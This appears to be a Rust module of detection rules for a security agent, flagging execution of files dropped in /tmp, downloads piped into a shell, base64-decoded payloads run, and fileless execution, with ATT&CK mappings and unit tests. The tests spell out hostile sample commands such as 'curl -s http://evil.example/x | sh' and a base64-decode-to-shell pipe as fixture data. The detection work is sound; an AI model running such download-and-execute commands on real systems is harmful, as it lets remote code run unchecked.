//! Execution: dropped files run from world-writable places, `curl | sh`,
//! decoded payloads run, programs run from memory.

use std::collections::HashMap;

use ioclab_agent::events::EventData;

use super::{exec_command_line, executed_path, is_shell, written_path, Evidence, Hit, Meta, Rule};

pub(super) const RULES: &[&dyn Rule] = &[&ExecFromTmp, &DownloadExecute, &Base64Execute, &FilelessExec];

const TTP_SHELL: (&str, &str, &str) =
    ("T1059.004", "Unix Shell", "Adversaries may abuse Unix shell commands and scripts for execution.");
const TTP_TRANSFER: (&str, &str, &str) =
    ("T1105", "Ingress Tool Transfer", "Adversaries may transfer tools or other files from an external system.");

/// Directories anyone can write and a dropper stages in.
fn in_staging_dir(path: &str) -> bool {
    ["/tmp/", "/dev/shm/", "/var/tmp/", "/run/shm/"].iter().any(|d| path.starts_with(d))
}

/// A file written by the task, then executed, from /tmp, /dev/shm or /var/tmp.
pub struct ExecFromTmp;

impl Rule for ExecFromTmp {
    fn meta(&self) -> Meta {
        Meta {
            name: "dropped_executed_from_tmp",
            description: "Writes a file to /tmp, /dev/shm or /var/tmp and executes it (a dropped second stage)",
            severity: 3,
            ttp: &[TTP_TRANSFER, ("T1204.002", "Malicious File", "A user or program runs a malicious file.")],
        }
    }

    fn check(&self, ev: &Evidence<'_>) -> Vec<Hit> {
        let mut written: HashMap<&str, usize> = HashMap::new();
        let mut hits = Vec::new();
        for e in ev.events {
            if let Some(p) = written_path(&e.data).filter(|p| in_staging_dir(p)) {
                written.entry(p).or_insert(e.index);
            }
            if let Some(&w) = executed_path(&e.data).and_then(|p| written.get(p)) {
                hits.extend([Hit::Event(w), Hit::Event(e.index)]);
            }
        }
        hits
    }
}

/// Whether a command line pipes a download into a shell (`curl ... | sh`).
fn pipes_download_to_shell(cmd: &str) -> bool {
    let parts: Vec<&str> = cmd.split('|').collect();
    parts.windows(2).any(|w| {
        let fetch = w[0].split_whitespace().any(|t| matches!(super::basename(t), "curl" | "wget" | "fetch"));
        let shell = w[1].split_whitespace().next().is_some_and(is_shell);
        fetch && shell
    })
}

/// A downloader's output piped to a shell: `curl URL | sh`.
pub struct DownloadExecute;

impl Rule for DownloadExecute {
    fn meta(&self) -> Meta {
        Meta {
            name: "download_and_execute",
            description: "Pipes a download (curl, wget) straight into a shell",
            severity: 4,
            ttp: &[TTP_TRANSFER, TTP_SHELL],
        }
    }

    fn check(&self, ev: &Evidence<'_>) -> Vec<Hit> {
        let mut hits = Vec::new();
        // the pipe as written, in a `sh -c` command line
        for e in ev.events {
            if exec_command_line(&e.data).is_some_and(pipes_download_to_shell) {
                hits.push(Hit::Event(e.index));
            }
        }
        // the pipe as the kernel sees it: a downloader and a shell reading stdin, started by the same parent
        hits.extend(siblings(ev, |p, _| matches!(super::basename(p), "curl" | "wget"), shell_reading_stdin));
        hits
    }
}

/// A shell started with no script to run: it reads its commands from stdin.
fn shell_reading_stdin(path: &str, cmd: &str) -> bool {
    if !is_shell(path) {
        return false;
    }
    let args: Vec<&str> = cmd.split_whitespace().skip(1).collect();
    args.iter().all(|a| a.starts_with('-') && *a != "-c") || args.iter().any(|a| *a == "-s")
}

/// Execs of two processes with the same parent: the producer (`first`) and the consumer (`second`) of a pipe.
fn siblings(ev: &Evidence<'_>, first: impl Fn(&str, &str) -> bool, second: impl Fn(&str, &str) -> bool) -> Vec<Hit> {
    let execs: Vec<(&super::TaskEvent, &str, &str)> =
        ev.events.iter().filter_map(|e| Some((e, executed_path(&e.data)?, exec_command_line(&e.data)?))).collect();
    let mut hits = Vec::new();
    for (a, _, _) in execs.iter().filter(|(_, p, c)| first(p, c)) {
        for (b, pb, cb) in &execs {
            if b.ppid == a.ppid && b.pid != a.pid && second(pb, cb) {
                hits.extend([Hit::Event(a.index), Hit::Event(b.index)]);
            }
        }
    }
    hits
}

/// Whether a command line decodes base64.
fn decodes_base64(path: &str, cmd: &str) -> bool {
    let args: Vec<&str> = cmd.split_whitespace().collect();
    let base = super::basename(path);
    (base == "base64" && args.iter().any(|a| matches!(*a, "-d" | "--decode" | "-D")))
        || (base == "openssl" && args.contains(&"base64") && args.contains(&"-d"))
        || cmd.contains("b64decode")
}

/// Base64 decoded, then run: piped to a shell, or written to a file that is executed.
pub struct Base64Execute;

impl Rule for Base64Execute {
    fn meta(&self) -> Meta {
        Meta {
            name: "base64_decode_execute",
            description: "Decodes base64 and executes the result",
            severity: 3,
            ttp: &[
                ("T1140", "Deobfuscate/Decode Files or Information", "Adversaries may decode obfuscated payloads."),
                TTP_SHELL,
            ],
        }
    }

    fn check(&self, ev: &Evidence<'_>) -> Vec<Hit> {
        let mut hits = Vec::new();
        for e in ev.events {
            let Some(cmd) = exec_command_line(&e.data) else { continue };
            let parts: Vec<&str> = cmd.split('|').collect();
            let piped = parts.windows(2).any(|w| {
                let dec = w[0].split_whitespace().next().is_some_and(|p| decodes_base64(p, w[0]));
                dec && w[1].split_whitespace().next().is_some_and(is_shell)
            });
            if piped {
                hits.push(Hit::Event(e.index));
            }
        }
        hits.extend(siblings(ev, decodes_base64, shell_reading_stdin));
        // decoded into a file by the decoder process, later executed
        let decoders: Vec<u32> = ev
            .events
            .iter()
            .filter(|e| match (executed_path(&e.data), exec_command_line(&e.data)) {
                (Some(p), Some(c)) => decodes_base64(p, c),
                _ => false,
            })
            .map(|e| e.pid)
            .collect();
        let mut decoded: HashMap<&str, usize> = HashMap::new();
        for e in ev.events {
            if decoders.contains(&e.pid) {
                if let Some(p) = written_path(&e.data) {
                    decoded.insert(p, e.index);
                }
            }
            if let Some(&w) = executed_path(&e.data).and_then(|p| decoded.get(p)) {
                hits.extend([Hit::Event(w), Hit::Event(e.index)]);
            }
        }
        hits
    }
}

/// A program run from memory: memfd, /proc/self/fd, or a deleted file.
pub struct FilelessExec;

impl Rule for FilelessExec {
    fn meta(&self) -> Meta {
        Meta {
            name: "fileless_execution",
            description: "Executes a program that has no file on disk (memfd, /proc/*/fd, deleted)",
            severity: 4,
            ttp: &[(
                "T1620",
                "Reflective Code Loading",
                "Adversaries may load code into memory to avoid files on disk.",
            )],
        }
    }

    fn check(&self, ev: &Evidence<'_>) -> Vec<Hit> {
        ev.events
            .iter()
            .filter(|e| {
                let path = match &e.data {
                    EventData::Execve(d) => &d.exe.path,
                    EventData::MmapExec(d) => &d.mapped.path,
                    _ => return false,
                };
                path.starts_with("/memfd:")
                    || path.starts_with("/dev/fd/")
                    || (path.starts_with("/proc/") && path.contains("/fd/"))
                    || path.ends_with(" (deleted)")
            })
            .map(|e| Hit::Event(e.index))
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::Task;
    use super::*;

    #[test]
    fn dropped_then_run_from_tmp() {
        let t = Task::new().file(10, "file_create", "/tmp/stage2").exec(11, 10, "/tmp/stage2", "/tmp/stage2 -x");
        assert_eq!(t.marked(&ExecFromTmp), vec![0, 1]);
        let t = Task::new().file(10, "write_close", "/dev/shm/.x").exec(11, 10, "/dev/shm/.x", "/dev/shm/.x");
        assert_eq!(t.marked(&ExecFromTmp), vec![0, 1]);
        // run first, or not written by the task, or not from /tmp: no
        let t = Task::new().exec(11, 10, "/tmp/stage2", "x").file(10, "file_create", "/tmp/stage2");
        assert!(t.check(&ExecFromTmp).is_empty());
        let t = Task::new().file(10, "file_create", "/home/u/bin/tool").exec(11, 10, "/home/u/bin/tool", "tool");
        assert!(t.check(&ExecFromTmp).is_empty());
        let t = Task::new().file(10, "file_create", "/tmp/notes").exec(11, 10, "/usr/bin/cat", "cat /tmp/notes");
        assert!(t.check(&ExecFromTmp).is_empty());
    }

    #[test]
    fn curl_piped_to_sh() {
        let t = Task::new().exec(10, 1, "/bin/sh", "sh -c curl -s http://evil.example/x | sh");
        assert_eq!(t.marked(&DownloadExecute), vec![0]);
        let t = Task::new().exec(11, 10, "/usr/bin/curl", "curl -s http://evil.example/x").exec(
            12,
            10,
            "/bin/bash",
            "bash",
        );
        assert_eq!(t.marked(&DownloadExecute), vec![0, 1]);
        let t = Task::new().exec(11, 10, "/usr/bin/wget", "wget -qO- http://e/x").exec(12, 10, "/bin/sh", "sh -s");
        assert_eq!(t.marked(&DownloadExecute), vec![0, 1]);
        // a download saved to a file, a shell running a script, a pipe into grep: no
        let t = Task::new().exec(11, 10, "/usr/bin/curl", "curl -o /tmp/x http://e/x").exec(
            12,
            10,
            "/bin/sh",
            "sh /opt/build.sh",
        );
        assert!(t.check(&DownloadExecute).is_empty());
        let t = Task::new().exec(10, 1, "/bin/sh", "sh -c curl http://e/x | grep sh");
        assert!(t.check(&DownloadExecute).is_empty());
        let t = Task::new().exec(11, 10, "/usr/bin/curl", "curl http://e/x").exec(12, 99, "/bin/sh", "sh");
        assert!(t.check(&DownloadExecute).is_empty());
    }

    #[test]
    fn base64_decoded_then_run() {
        let t = Task::new().exec(10, 1, "/bin/sh", "sh -c echo ZWNobyBoaQ== | base64 -d | sh");
        assert_eq!(t.marked(&Base64Execute), vec![0]);
        let t = Task::new().exec(11, 10, "/usr/bin/base64", "base64 -d").exec(12, 10, "/bin/sh", "sh");
        assert_eq!(t.marked(&Base64Execute), vec![0, 1]);
        let t = Task::new()
            .exec(11, 10, "/usr/bin/base64", "base64 --decode /tmp/p.b64")
            .file(11, "file_create", "/tmp/p")
            .exec(12, 10, "/tmp/p", "/tmp/p");
        assert_eq!(t.marked(&Base64Execute), vec![1, 2]);
        // encoding, or decoding to a file nobody runs: no
        let t = Task::new().exec(11, 10, "/usr/bin/base64", "base64 /etc/hostname").exec(12, 10, "/bin/sh", "sh");
        assert!(t.check(&Base64Execute).is_empty());
        let t = Task::new().exec(11, 10, "/usr/bin/base64", "base64 -d x").file(11, "file_create", "/tmp/p");
        assert!(t.check(&Base64Execute).is_empty());
    }

    #[test]
    fn run_from_memory() {
        let t = Task::new().exec(10, 1, "/memfd:payload (deleted)", "x");
        assert_eq!(t.marked(&FilelessExec), vec![0]);
        let t = Task::new().exec(10, 1, "/proc/self/fd/3", "x");
        assert_eq!(t.marked(&FilelessExec), vec![0]);
        let t = Task::new().exec(10, 1, "/usr/bin/python3", "python3 -c 1").exec(11, 1, "/proc/cpuinfo", "x");
        assert!(t.check(&FilelessExec).is_empty());
    }
}
